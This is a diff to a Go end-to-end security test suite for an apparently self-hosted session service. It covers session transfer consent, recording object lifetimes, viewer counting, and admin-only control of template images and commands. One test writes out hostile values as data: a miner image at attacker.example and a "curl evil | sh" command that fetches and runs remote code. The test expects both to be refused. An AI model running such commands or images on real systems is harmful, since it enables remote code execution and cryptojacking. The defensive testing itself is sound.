@@ -1,16 +1,24 @@
 package e2e
 
 import (
+	"context"
 	"fmt"
 	"net/url"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 	"time"
 
+	"github.com/aws/aws-sdk-go-v2/aws"
+	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
+	"github.com/aws/aws-sdk-go-v2/service/dynamodb/types"
 	"github.com/coder/websocket"
 
 	"streamspace/internal/apikeys"
 	"streamspace/internal/connections"
+	"streamspace/internal/recordings"
+	"streamspace/internal/sessions"
 	"streamspace/internal/sharing"
 	"streamspace/internal/testenv"
 )
@@ -28,7 +36,7 @@ func TestSEC07IdempotentReplayChecksAccess(t *testing.T) {
 	var s session
 	e.Do("POST", "/api/v1/sessions", alice, body, "Idempotency-Key", "k-sec07").Want(t, 201).Decode(t, &s)
 	e.Do("POST", "/api/v1/sessions", alice, body, "Idempotency-Key", "k-sec07").Want(t, 201) // still hers: replayed
-	e.Do("POST", "/api/v1/sessions/"+s.ID+"/transfer", alice, map[string]string{"newOwnerUserId": "bob"}).Want(t, 200)
+	transfer(t, e, s.ID, alice, "bob", bob)
 	e.Do("POST", "/api/v1/sessions", alice, body, "Idempotency-Key", "k-sec07").Want(t, 404)
 }
 
@@ -117,7 +125,7 @@ func TestSEC03InvitationsAreNoBackdoor(t *testing.T) {
 	// Transfer: alice's old invitations end; bob, the new owner, revokes one by id.
 	e.Do("POST", "/api/v1/teams/"+tm.ID+"/members", alice, map[string]string{"userId": "bob", "role": "member"}).Want(t, 201)
 	oldID, old := invite(alice)
-	e.Do("POST", p+"/transfer", alice, map[string]string{"newOwnerUserId": "bob"}).Want(t, 200)
+	transfer(t, e, s.ID, alice, "bob", bob)
 	e.Do("POST", "/api/v1/invitations/"+old+"/accept", carol, nil).Want(t, 410)
 	e.Do("DELETE", p+"/invitations/"+oldID, carol, nil).Want(t, 404) // not hers to see
 	e.Do("DELETE", p+"/invitations/"+oldID, bob, nil).Want(t, 204)
@@ -278,4 +286,215 @@ func TestOpenInvitationsPerSessionAreBounded(t *testing.T) {
 	e.Do("POST", p, alice, map[string]any{"permissionLevel": "view"}).Want(t, 409)
 	e.Do("DELETE", p+"/"+first.ID, alice, nil).Want(t, 204)
 	e.Do("POST", p, alice, map[string]any{"permissionLevel": "view"}).Want(t, 201)
+}
+
+// transfer gives session id from one user to another through an offer the recipient accepts.
+func transfer(t *testing.T, e *testenv.Env, id, fromTok, to, toTok string) {
+	t.Helper()
+	e.Do("POST", "/api/v1/sessions/"+id+"/transfer", fromTok, map[string]string{"newOwnerUserId": to}).Want(t, 202)
+	e.Do("POST", "/api/v1/sessions/"+id+"/transfer/accept", toTok, nil).Want(t, 200)
+}
+
+// SEC-15: a transfer is an offer: nothing moves and no quota is used until the recipient
+// accepts, so unsolicited transfers cannot fill anyone's quota. The recipient hears of it, may
+// decline, the owner may cancel, only the recipient accepts, and a full quota refuses the accept.
+func TestSEC15TransferNeedsRecipientConsent(t *testing.T) {
+	e := testenv.Start(t)
+	alice, bob, carol := e.Token("alice", ""), e.Token("bob", ""), e.Token("carol", "")
+	seen(t, e, bob, carol)
+	bws := e.MustDialWS(bob, nil)
+	var ids []string
+	for i := 0; i < 5; i++ { // the default quota: 5 live sessions
+		s := create(t, e, alice, map[string]any{"templateName": "terminal"})
+		var got session
+		e.Do("POST", "/api/v1/sessions/"+s.ID+"/transfer", alice, map[string]string{"newOwnerUserId": "bob"}).Want(t, 202).Decode(t, &got)
+		if got.OwnerID != "alice" {
+			t.Fatalf("an offer moved the session to %s", got.OwnerID)
+		}
+		ids = append(ids, s.ID)
+	}
+	bws.Expect("session.transfer.offered", ids[0], wait)
+	own := create(t, e, bob, map[string]any{"templateName": "terminal"}) // bob's quota is untouched
+	p := "/api/v1/sessions/" + ids[0]
+	e.Do("GET", p, bob, nil).Want(t, 404)                        // an offer shows nothing of the session
+	e.Do("POST", p+"/transfer/accept", carol, nil).Want(t, 404)  // not hers
+	e.Do("POST", p+"/transfer/decline", carol, nil).Want(t, 404) // not hers
+	e.Do("POST", p+"/transfer/accept", alice, nil).Want(t, 404)  // the owner accepts nothing
+	e.Do("POST", p+"/transfer/decline", bob, nil).Want(t, 204)
+	e.Do("POST", p+"/transfer/accept", bob, nil).Want(t, 404) // declined
+	e.Do("DELETE", "/api/v1/sessions/"+ids[1]+"/transfer", alice, nil).Want(t, 204)
+	e.Do("DELETE", "/api/v1/sessions/"+ids[1]+"/transfer", alice, nil).Want(t, 404)
+	e.Do("POST", "/api/v1/sessions/"+ids[1]+"/transfer/accept", bob, nil).Want(t, 404) // cancelled
+	for _, id := range ids[2:] {
+		e.Do("POST", "/api/v1/sessions/"+id+"/transfer/accept", bob, nil).Want(t, 200)
+	}
+	// bob now has 4 live sessions: one more fits, the next accept is refused and changes nothing.
+	e.Do("POST", "/api/v1/sessions/"+ids[0]+"/transfer", alice, map[string]string{"newOwnerUserId": "bob"}).Want(t, 202)
+	e.Do("POST", "/api/v1/sessions/"+ids[0]+"/transfer/accept", bob, nil).Want(t, 200)
+	last := create(t, e, alice, map[string]any{"templateName": "terminal"})
+	e.Do("POST", "/api/v1/sessions/"+last.ID+"/transfer", alice, map[string]string{"newOwnerUserId": "bob"}).Want(t, 202)
+	e.Do("POST", "/api/v1/sessions/"+last.ID+"/transfer/accept", bob, nil).Want(t, 403)
+	e.Do("DELETE", "/api/v1/sessions/"+own.ID, bob, nil).Want(t, 200)
+	var got session
+	e.Do("POST", "/api/v1/sessions/"+last.ID+"/transfer/accept", bob, nil).Want(t, 200).Decode(t, &got)
+	if got.OwnerID != "bob" {
+		t.Fatalf("owner after accept: %s", got.OwnerID)
+	}
+	e.Do("GET", "/api/v1/sessions/"+last.ID, alice, nil).Want(t, 404)
+
+	// An offer is only as good as its maker's right to transfer at the accept: a team admin
+	// removed from the team since cannot hand the team's session to anyone (as SEC-03).
+	tm := newTeam(t, e, alice, "sec15")
+	e.Do("POST", "/api/v1/teams/"+tm.ID+"/members", alice, map[string]string{"userId": "bob", "role": "admin"}).Want(t, 201)
+	ts := create(t, e, alice, map[string]any{"templateName": "terminal", "teamId": tm.ID})
+	e.Do("POST", "/api/v1/sessions/"+ts.ID+"/transfer", bob, map[string]string{"newOwnerUserId": "carol"}).Want(t, 202)
+	e.Do("DELETE", "/api/v1/teams/"+tm.ID+"/members/bob", alice, nil).Want(t, 204)
+	e.Do("POST", "/api/v1/sessions/"+ts.ID+"/transfer/accept", carol, nil).Want(t, 410)
+	e.Do("GET", "/api/v1/sessions/"+ts.ID, carol, nil).Want(t, 404)
+}
+
+// SEC-16: a recording's object lives as long as its record: removed with it, by DELETE or by
+// the record's TTL (the auditor deletes the object of every removed recording item). Uploads are
+// bounded (a signed maximum the store enforces), dead once the recording is completed or
+// deleted, and what completes is what was stored. A session has at most MaxPerSession recordings.
+func TestSEC16RecordingObjectsFollowTheirRecords(t *testing.T) {
+	e := testenv.Start(t)
+	alice := e.Token("alice", "")
+	s := create(t, e, alice, map[string]any{"templateName": "terminal"})
+	p := "/api/v1/sessions/" + s.ID + "/recordings"
+	newRec := func() uploadable {
+		var u uploadable
+		e.Do("POST", p, alice, map[string]any{"type": "video", "format": "webm", "retentionDays": 1}).Want(t, 201).Decode(t, &u)
+		if u.UploadMethod != "POST" || u.UploadMaxBytes != recordings.MaxUploadBytes || u.UploadFields["max"] == "" {
+			t.Fatalf("upload form: %+v", u)
+		}
+		return u
+	}
+	stored := func(u uploadable) bool {
+		_, err := os.Stat(filepath.Join(e.Objects.Dir, filepath.FromSlash(u.Recording.StorageKey)))
+		return err == nil
+	}
+	content := []byte("a short recording")
+
+	// Completing needs the object, and takes its size from it.
+	done := newRec()
+	rp := p + "/" + done.Recording.ID
+	e.Do("PATCH", rp, alice, map[string]any{"status": "completed"}).Want(t, 409) // nothing uploaded
+	if st := done.upload(t, content); st != 204 {
+		t.Fatalf("upload: %d", st)
+	}
+	e.Do("PATCH", rp, alice, map[string]any{"status": "completed", "sizeBytes": 5}).Want(t, 409)
+	var got struct{ Recording recording }
+	e.Do("PATCH", rp, alice, map[string]any{"status": "completed"}).Want(t, 200).Decode(t, &got)
+	if got.Recording.SizeBytes != int64(len(content)) {
+		t.Fatalf("completed with size %d, stored %d", got.Recording.SizeBytes, len(content))
+	}
+	if st := done.upload(t, []byte("replaced after completion")); st != 403 {
+		t.Fatalf("upload after completion: %d, want 403", st)
+	}
+	// A signed bound cannot be raised.
+	forged := done
+	forged.UploadFields = map[string]string{}
+	for k, v := range done.UploadFields {
+		forged.UploadFields[k] = v
+	}
+	forged.UploadFields["max"] = "99999999999"
+	if st := forged.upload(t, content); st != 403 {
+		t.Fatalf("upload with a raised bound: %d, want 403", st)
+	}
+
+	// DELETE: the object goes, and the form cannot bring it back as an orphan.
+	e.Do("DELETE", rp, alice, nil).Want(t, 204)
+	if st := done.upload(t, content); st != 403 || stored(done) {
+		t.Fatalf("upload after delete: %d (stored again: %v)", st, stored(done))
+	}
+
+	// The record's TTL removes the item without the API: the object follows.
+	expiring := newRec()
+	if st := expiring.upload(t, content); st != 204 {
+		t.Fatalf("upload: %d", st)
+	}
+	if err := e.App.RecordingStore().Delete(context.Background(), s.ID, expiring.Recording.ID); err != nil { // as the TTL does
+		t.Fatal(err)
+	}
+	waitUntil(t, 10*time.Second, "the expired recording's object is deleted", func() bool { return !stored(expiring) })
+
+	// At most MaxPerSession recordings per session.
+	for i := 0; i < recordings.MaxPerSession; i++ {
+		e.Do("POST", p, alice, map[string]any{"type": "log", "format": "txt"}).Want(t, 201)
+	}
+	e.Do("POST", p, alice, map[string]any{"type": "log", "format": "txt"}).Want(t, 409)
+}
+
+// SEC-18: viewers keep no session alive and the count of viewers is true. Tickets issued but
+// never opened count as nobody; a view-only viewer's open does not move lastActivity; and an open
+// connection whose item expires by TTL (a gateway that died without closing it) stops counting
+// at the scheduler's next recount.
+func TestSEC18ViewersKeepNothingAliveAndCountTrue(t *testing.T) {
+	e := startLocal(t)
+	alice, carol := e.Token("alice", ""), e.Token("carol", "")
+	seen(t, e, carol)
+	s := runningTerminal(t, e, alice, map[string]any{"idleTimeout": 3600})
+	p := "/api/v1/sessions/" + s.ID
+	e.Do("POST", p+"/share", alice, map[string]string{"sharedWithUserId": "carol", "permissionLevel": "view"}).Want(t, 201)
+	var before, got struct {
+		ActiveConnections int
+		LastActivity      time.Time
+	}
+	e.Do("GET", p, alice, nil).Want(t, 200).Decode(t, &before)
+	for i := 0; i < 5; i++ {
+		connectURL(t, e, carol, s.ID) // issued, never opened
+	}
+	v := openViewer(t, e, carol, s.ID)
+	_ = v
+	e.Do("GET", p, alice, nil).Want(t, 200).Decode(t, &got)
+	if got.ActiveConnections != before.ActiveConnections+1 || !got.LastActivity.Equal(before.LastActivity) {
+		t.Fatalf("after 5 unused tickets and one view-only open: %+v, before %+v", got, before)
+	}
+	// The connection's item goes as its TTL would take it: nobody lowers the count but the recount.
+	out, err := e.App.DB.Query(context.Background(), &dynamodb.QueryInput{TableName: &e.App.Cfg.Tables.Main,
+		KeyConditionExpression: aws.String("PK = :pk AND begins_with(SK, :c)"),
+		ExpressionAttributeValues: map[string]types.AttributeValue{":pk": &types.AttributeValueMemberS{Value: "SESSION#" + s.ID},
+			":c": &types.AttributeValueMemberS{Value: "CONN#"}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, it := range out.Items {
+		if _, err := e.App.DB.DeleteItem(context.Background(), &dynamodb.DeleteItemInput{TableName: &e.App.Cfg.Tables.Main,
+			Key: map[string]types.AttributeValue{"PK": it["PK"], "SK": it["SK"]}}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if sum, err := e.RunScheduler(context.Background(), time.Now().Add(sessions.ConnectionsRecount+time.Minute)); err != nil || sum.Recounted != 1 {
+		t.Fatalf("recount run: %+v, %v", sum, err)
+	}
+	e.Do("GET", p, alice, nil).Want(t, 200).Decode(t, &got)
+	if got.ActiveConnections != 0 {
+		t.Fatalf("activeConnections after its connection expired: %d", got.ActiveConnections)
+	}
+}
+
+// SEC-20: operators edit templates' metadata, but what runs in everyone's sessions (image) and on
+// the host of the local stack (localCommand) is set and changed by admins only.
+func TestSEC20OnlyAdminsChooseWhatTemplatesRun(t *testing.T) {
+	e := testenv.Start(t)
+	op, admin := e.Token("olga", "operator"), e.Token("root", "admin")
+	tpl := map[string]any{"name": "sec20-app", "displayName": "App", "category": "Test", "image": "registry.example/app:1",
+		"localCommand": "xterm", "defaultResources": map[string]string{"cpu": "1", "memory": "1Gi"}}
+	e.Do("POST", "/api/v1/templates", op, tpl).Want(t, 403)
+	e.Do("POST", "/api/v1/templates", admin, tpl).Want(t, 201)
+	p := "/api/v1/templates/sec20-app"
+	tpl["displayName"], tpl["description"] = "App 2", "metadata is the operators'"
+	e.Do("PUT", p, op, tpl).Want(t, 200)
+	tpl["image"] = "attacker.example/miner:latest"
+	e.Do("PUT", p, op, tpl).Want(t, 403)
+	tpl["image"], tpl["localCommand"] = "registry.example/app:1", "sh -c 'curl evil | sh'"
+	e.Do("PUT", p, op, tpl).Want(t, 403)
+	var got struct{ Image, LocalCommand, DisplayName string }
+	e.Do("GET", p, op, nil).Want(t, 200).Decode(t, &got)
+	if got.Image != "registry.example/app:1" || got.LocalCommand != "xterm" || got.DisplayName != "App 2" {
+		t.Fatalf("template after the operator's edits: %+v", got)
+	}
+	tpl["image"], tpl["localCommand"] = "registry.example/app:2", "xterm -e top"
+	e.Do("PUT", p, admin, tpl).Want(t, 200)
 }
